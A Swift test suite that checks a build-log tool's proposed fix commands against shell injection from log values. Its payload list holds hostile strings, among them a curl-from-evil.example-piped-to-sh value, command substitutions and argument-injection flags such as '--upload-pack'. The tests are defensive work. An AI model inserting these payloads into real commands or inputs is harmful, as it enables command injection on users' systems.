import Foundation
import Testing

@testable import StepTimeline

/// Nothing that a log says may change the commands that a report proposes.
@Suite struct CommandSafetyTests {
  private static let payloads = [
    "v1;curl${IFS}evil.example|sh", "$(touch /tmp/x)", "`touch /tmp/x`", "a'b", "a\"b", "a' 'b", "x\ny",
    "x\\",
    "--upload-pack=touch", "-oProxyCommand=touch", "a b", "a&&b", "a>b", "<a", "a|b", "*", "~root", "!x",
    "#x",
    "x/e;p", "a\u{202E}b", "a\u{1B}[31mb", "a\u{0}b", "a\r\nRUN x", "{x}", "${x}", "%x%", "a\tb", "é\u{200B}",
    "''", "\"\"", "=cmd", "@x;y", "(x)", "[x]", "a{b,c}", "evil.example/$(id)", "1.0'; echo '", "x,y;z",
    "\\$(id)",
  ]

  /// Names that buildlog's own tables fill, and no log.
  private static let fromTables: Set<String> = [
    "aptPackages", "apkPackages", "dnfPackages", "below", "aptProgram", "apkProgram", "dnfProgram",
  ]

  @Test func noPatternCapturesWhatTheTablesFill() throws {
    for rule in RuleCatalog.all {
      for text in rule.patterns.flatMap({ [$0.text] + $0.more }) where !text.isEmpty {
        let names = try PatternTemplate(text, shortestLiteral: 1).names
        #expect(Self.fromTables.isDisjoint(with: names), "\(rule.id): \(text)")
      }
    }
  }

  /// Texts that a reader may paste, with every name in them filled by the same value.
  private static func commands(of rule: Rule, value: String?) -> [String] {
    func values(_ text: String) -> [String: String] {
      guard let value else { return [:] }
      let names = TextTemplate.names(in: text).subtracting(fromTables)
      return Dictionary(uniqueKeysWithValues: names.map { ($0, value) })
    }
    var commands: [String] = []
    for fix in rule.fixes where fix.snippet != nil || fix.change != nil {
      let names = [fix.snippet, fix.change?.text].compactMap(\.self).joined(separator: "\n")
      let filled = fix.filled(baseIsKnown: true, with: values(names))
      commands += [filled.snippet, filled.change?.text].compactMap(\.self)
    }
    commands += rule.verify.map { CommandTemplate.fill($0, values($0)) }
    for text in [rule.title] + rule.causes + rule.fixes.map(\.text) where text.contains("`") {
      let filled = CommandTemplate.fillSentence(text, values(text))
      let spans = filled.split(separator: "`", omittingEmptySubsequences: false)
      // A span that is only a name is quoted from the log, not proposed.
      let template = text.split(separator: "`", omittingEmptySubsequences: false)
      guard spans.count == template.count else {
        commands.append("the spans of '\(text)' changed: \(filled)")
        continue
      }
      for i in stride(from: 1, to: max(1, spans.count - 1), by: 2) where template[i].contains(" ") {
        commands.append(String(spans[i]))
      }
    }
    return commands.map(withoutPlaceholders)
  }

  /// A word in place of each `<what belongs there>`, which a reader replaces; one may hold another.
  ///
  /// No value of a log holds `<`.
  private static func withoutPlaceholders(_ command: String) -> String {
    let bytes = Array(command.utf8)
    guard bytes.contains(UInt8(ascii: "<")) else { return command }
    var result: [UInt8] = []
    var depth = 0
    for (i, byte) in bytes.enumerated() {
      let opens = byte == UInt8(ascii: "<") && i + 1 < bytes.count && isLetter(bytes[i + 1])
      if opens, depth == 0 { result += "placeholder".utf8 }
      if opens { depth += 1 }
      if depth == 0 { result.append(byte) }
      if byte == UInt8(ascii: ">"), depth > 0 { depth -= 1 }
    }
    return String(decoding: result, as: UTF8.self)
  }

  private static func isLetter(_ byte: UInt8) -> Bool {
    UInt8(ascii: "a")...UInt8(ascii: "z") ~= byte | 0x20
  }

  /// The commands of each rule with nothing filled in.
  private static let plain = RuleCatalog.all.map { commands(of: $0, value: nil) }

  /// Indices of the rules that have a name to fill in.
  private static let filled = RuleCatalog.all.indices.filter { i in
    let rule = RuleCatalog.all[i]
    let texts =
      [rule.title] + rule.causes + rule.verify
      + rule.fixes.flatMap { [$0.text, $0.snippet ?? "", $0.change?.text ?? ""] }
    return texts.contains { !TextTemplate.names(in: $0).isEmpty }
  }

  /// Those of them that meet the payloads.
  private static let tried = filled.filter { Thoroughness.takes($0, oneOf: 5) }

  private static let hostileCommands = Once<String, [[String]]>()

  /// The commands of each rule with a payload for every name.
  private static func hostile(_ payload: String) -> [[String]] {
    hostileCommands.value(of: payload) {
      var all = plain
      for i in tried { all[i] = commands(of: RuleCatalog.all[i], value: payload) }
      return all
    }
  }

  @Test func everyRuleThatCanBeFilledIsTried() {
    // A base image that is unknown also leaves a name; such a rule's commands need no value of the log.
    for (i, rule) in RuleCatalog.all.enumerated() where !Self.filled.contains(i) {
      #expect(Self.commands(of: rule, value: "$(touch /tmp/x)") == Self.plain[i], "\(rule.id)")
    }
  }

  @Test func aHostileValueStaysOneWordInEveryCommandOfEveryRule() {
    var count = 0
    let rules = RuleCatalog.all
    for i in Self.tried {
      let plain = Self.plain[i]
      let shapes = plain.map { ShellWords($0).shape }
      for payload in Self.payloads {
        let hostile = Self.hostile(payload)[i]
        #expect(plain.count == hostile.count)
        for (place, command) in hostile.enumerated() where place < plain.count && command != plain[place] {
          count += 1
          #expect(
            shapes[place] == ShellWords(command).shape, "\(rules[i].id): \(plain[place]) → \(command)")
        }
      }
    }
    // A third of the rules has fewer commands, or more, as the catalog's order has it.
    #expect(count > (Thoroughness.takesAll ? 200 : 40))
  }

  /// A shell reads the commands in the same way whatever the log said.
  @Test func theShellReadsHostileCommandsAsItReadsPlainOnes() throws {
    let plain = Self.plain.flatMap(\.self)
    // Lines for other files (JSON, go.mod) are no commands; the shell says which.
    let accepted = try Self.accepted(plain, Array(plain.indices))
    #expect(accepted.count > 100)
    for payload in Self.payloads {
      let hostile = Self.hostile(payload).flatMap(\.self)
      let whole = accepted.map { hostile[$0] }.joined(separator: "\n")
      #expect(try Self.shellAccepts(whole), "with \(payload)")
    }
  }

  @Test(arguments: [
    ("git push origin {revision|v1.2.3}", "v1;curl${IFS}evil.example|sh", "git push origin v1.2.3"),
    ("git push origin {revision|v1.2.3}", "v1.9", "git push origin v1.9"),
    ("git fetch {ref}", "--upload-pack=touch", "git fetch <ref>"),
    ("RUN chmod +x {path}", "my files/a (1).sh", "RUN chmod +x 'my files/a (1).sh'"),
    ("RUN chmod +x {path}", "it's", #"RUN chmod +x 'it'\''s'"#),
    ("COPY {path} /app/", "my files/a.sh", "COPY <path> /app/"),
    ("RUN sed -i '/{path}/d' x", "a b", "RUN sed -i '/<path>/d' x"),
    ("RUN apt-get install {package}", "libc6-", "RUN apt-get install <package>"),
    ("RUN apt-get install -y \\\n    {package}", "g++", "RUN apt-get install -y \\\n    g++"),
    ("FROM golang:{needed|1.25}", ">= 1.27", "FROM golang:1.25"),
    ("echo ${package}", "x", "echo ${package}"),
  ])
  func aValueEntersInItsForm(template: String, value: String, expected: String) {
    let names = TextTemplate.names(in: template)
    let values = Dictionary(uniqueKeysWithValues: names.map { ($0, value) })
    #expect(CommandTemplate.fill(template, values) == expected)
  }

  @Test func everyFormRefusesWhatAShellActsOn() {
    for form in ValueForm.allCases {
      for bad in [
        "", "-x", "--x", "a\nb", "a`b`", "a$b", "a;b", "a|b", "a<b", "a\"b", "\u{7F}a", "a\u{202E}",
      ] {
        #expect(!form.admits(bad), "\(form): \(bad)")
        #expect(form.shellWord(bad) == nil && form.bare(bad) == nil)
      }
    }
  }

  @Test(arguments: [
    (ValueForm.package, ["libssl-dev", "g++", "@scope/name", "vendor/name", "Foo::Bar", "python3.12"]),
    (.modulePath, ["example.com/team/app/v2", "golang.org/x/tools"]),
    (.version, ["1.27", "v2.0.0-rc.1", "2:1.36+deb12u1", "v0.0.0-20240101000000-abcdef123456"]),
    (.path, ["/app/x", "a b/c.csproj", "app/[slug]/page.tsx", "C:\\src\\a.cs", "größe.txt"]),
    (.host, ["registry.example.com:5000", "10.0.0.1"]),
    (.image, ["golang:1.27", "ghcr.io/team/app:1.2", "a@sha256:0123"]),
    (.revision, ["main", "feature/x", "v1.2.3"]), (.variable, ["NPM_TOKEN"]), (.number, ["42"]),
    (.url, ["https://example.com/a?b=c&d", "ssh://example.com/x.git"]),
  ])
  func aFormAdmitsWhatItIsFor(form: ValueForm, values: [String]) {
    for value in values { #expect(form.admits(value), "\(form): \(value)") }
  }

  private static func accepted(_ commands: [String], _ indices: [Int]) throws -> [Int] {
    // Halves until the shell accepts: few lines are no commands.
    if indices.isEmpty { return [] }
    if try shellAccepts(indices.map { commands[$0] }.joined(separator: "\n")) { return indices }
    if indices.count == 1 { return [] }
    let middle = indices.count / 2
    return try accepted(commands, Array(indices[..<middle])) + accepted(commands, Array(indices[middle...]))
  }

  private static func shellAccepts(_ script: String) throws -> Bool {
    let file = FileManager.default.temporaryDirectory.appendingPathComponent(
      "commands-\(UUID().uuidString).sh")
    try Data(script.utf8).write(to: file)
    defer { try? FileManager.default.removeItem(at: file) }
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/bin/sh")
    process.arguments = ["-n", file.path]
    process.standardError = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    return process.terminationStatus == 0
  }
}
